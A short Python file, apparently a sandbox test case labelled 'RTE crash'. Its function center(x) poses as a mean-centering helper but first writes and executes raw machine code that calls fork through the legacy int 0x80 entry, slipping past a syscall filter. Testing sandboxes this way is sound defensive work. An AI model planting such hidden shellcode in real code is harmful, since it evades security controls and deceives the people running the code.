# RTE crash
# attacks: a filter that knows only one way into the kernel (int 0x80, with the numbers of 32 bits: fork)
# needs: processes
import ctypes
import mmap


def center(x):
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(b"\xb8\x02\0\0\0\xcd\x80\xc3")
    ctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_char.from_buffer(code)))()
    return x - x.mean(axis=-1, keepdims=True)
